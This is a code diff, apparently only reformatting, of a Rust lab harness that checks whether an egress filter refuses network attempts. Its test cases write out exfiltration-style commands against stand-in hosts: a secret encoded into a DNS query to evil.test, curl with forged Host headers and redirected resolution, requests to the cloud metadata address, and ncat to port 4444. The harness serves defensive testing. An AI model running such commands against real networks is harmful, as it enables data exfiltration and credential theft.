@@ -70,18 +70,42 @@ impl Attempt {
     /// Runs the command in its runner's namespace.
     pub(super) async fn run(&self, lab: &Lab) -> Result<Outcome, LabError> {
         let (program, args) = self.command.split_first().expect("an attempt has a command");
-        let output = lab.runner(self.runner).command(program).args(args).timeout(Duration::from_secs(20)).run().await?;
+        let output = lab
+            .runner(self.runner)
+            .command(program)
+            .args(args)
+            .timeout(Duration::from_secs(20))
+            .run()
+            .await?;
         let text = format!("{}\n{}", output.text(), output.errors());
-        Ok(Outcome { through: text.contains(self.proof), line: telling_line(&output, self.proof) })
+        Ok(Outcome {
+            through: text.contains(self.proof),
+            line: telling_line(&output, self.proof),
+        })
     }
 }
 
 /// The line with the proof, else the one that names a refusal, else the last.
 fn telling_line(output: &Output, proof: &str) -> String {
     let text = format!("{}\n{}", output.text(), output.errors());
-    let lines: Vec<&str> = text.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
-    let signs = [proof, "EDE", "Tidegate refused", "refused", "alert", "Could not resolve", "NXDOMAIN", "not "];
-    let found = signs.iter().find_map(|sign| lines.iter().find(|line| line.contains(sign)));
+    let lines: Vec<&str> = text
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty())
+        .collect();
+    let signs = [
+        proof,
+        "EDE",
+        "Tidegate refused",
+        "refused",
+        "alert",
+        "Could not resolve",
+        "NXDOMAIN",
+        "not ",
+    ];
+    let found = signs
+        .iter()
+        .find_map(|sign| lines.iter().find(|line| line.contains(sign)));
     let line = found.or(lines.last()).copied().unwrap_or("(no output)");
     line.chars().take(90).collect()
 }
@@ -112,32 +136,59 @@ fn build_job(lab: &Lab) -> Vec<Attempt> {
     let (refused, site) = (Expect::Refused, "allowed.test");
     vec![
         curl("HTTPS to an allowed name", "https://allowed.test/", site),
-        Attempt { kind: "http", ..curl("HTTP to an allowed name", "http://allowed.test/", site) },
+        Attempt {
+            kind: "http",
+            ..curl("HTTP to an allowed name", "http://allowed.test/", site)
+        },
         Attempt {
             value: "git.test",
-            ..attempt("git clone over HTTPS", &["git", "clone", &lab.git_https_url(), "clone"], "Cloning into")
+            ..attempt(
+                "git clone over HTTPS",
+                &["git", "clone", &lab.git_https_url(), "clone"],
+                "Cloning into",
+            )
         },
         Attempt {
             expect: refused,
             kind: "dns",
             value: "evil.test",
-            ..curl("HTTPS to a name that is not allowed", "https://evil.test/", "evil.test says")
+            ..curl(
+                "HTTPS to a name that is not allowed",
+                "https://evil.test/",
+                "evil.test says",
+            )
         },
         Attempt {
             expect: refused,
             kind: "dns",
             value: "c2vjcmv0.evil.test",
-            ..attempt("a secret in a DNS query", &["dig", "+tries=1", "c2VjcmV0.evil.test"], "ANSWER SECTION")
+            ..attempt(
+                "a secret in a DNS query",
+                &["dig", "+tries=1", "c2VjcmV0.evil.test"],
+                "ANSWER SECTION",
+            )
         },
         Attempt {
             expect: refused,
             kind: "dns",
             value: "evil.test",
-            ..attempt("the same by a foreign resolver", &["dig", "+tries=1", "@203.0.113.53", "evil.test"], "ANSWER SECTION")
+            ..attempt(
+                "the same by a foreign resolver",
+                &["dig", "+tries=1", "@203.0.113.53", "evil.test"],
+                "ANSWER SECTION",
+            )
         },
         attempt(
             "an allowed name towards an attacker's address",
-            &["curl", "-sS", "-m", "8", "--resolve", "allowed.test:443:203.0.113.66", "https://allowed.test/"],
+            &[
+                "curl",
+                "-sS",
+                "-m",
+                "8",
+                "--resolve",
+                "allowed.test:443:203.0.113.66",
+                "https://allowed.test/",
+            ],
             site,
         ),
         Attempt {
@@ -145,7 +196,15 @@ fn build_job(lab: &Lab) -> Vec<Attempt> {
             value: "cdn-b.test",
             ..attempt(
                 "another site at an allowed site's address",
-                &["curl", "-sS", "-m", "8", "--resolve", "cdn-b.test:443:192.0.2.20", "https://cdn-b.test/"],
+                &[
+                    "curl",
+                    "-sS",
+                    "-m",
+                    "8",
+                    "--resolve",
+                    "cdn-b.test:443:192.0.2.20",
+                    "https://cdn-b.test/",
+                ],
                 "cdn-b.test says",
             )
         },
@@ -155,7 +214,15 @@ fn build_job(lab: &Lab) -> Vec<Attempt> {
             value: "evil.test",
             ..attempt(
                 "a forged Host at an allowed address",
-                &["curl", "-sS", "-m", "8", "-H", "Host: evil.test", "http://allowed.test/"],
+                &[
+                    "curl",
+                    "-sS",
+                    "-m",
+                    "8",
+                    "-H",
+                    "Host: evil.test",
+                    "http://allowed.test/",
+                ],
                 "evil.test says",
             )
         },
@@ -164,14 +231,22 @@ fn build_job(lab: &Lab) -> Vec<Attempt> {
             kind: "tcp",
             key: "address",
             value: "169.254.169.254",
-            ..curl("the cloud's metadata address", "http://169.254.169.254/latest/", "meta-data")
+            ..curl(
+                "the cloud's metadata address",
+                "http://169.254.169.254/latest/",
+                "meta-data",
+            )
         },
         Attempt {
             expect: refused,
             kind: "tcp",
             key: "address",
             value: "192.0.2.66",
-            ..attempt("a bare address on another port", &["ncat", "-w", "3", "192.0.2.66", "4444"], "connected")
+            ..attempt(
+                "a bare address on another port",
+                &["ncat", "-w", "3", "192.0.2.66", "4444"],
+                "connected",
+            )
         },
     ]
 }
@@ -185,7 +260,11 @@ fn nightly_job() -> Vec<Attempt> {
         ..attempt(title, command, proof)
     };
     vec![
-        nightly("audit: a name that is not allowed works", &["curl", "-sS", "-m", "8", "https://evil.test/"], "evil.test"),
+        nightly(
+            "audit: a name that is not allowed works",
+            &["curl", "-sS", "-m", "8", "https://evil.test/"],
+            "evil.test",
+        ),
         Attempt {
             expect: Expect::Refused,
             kind: "dns",
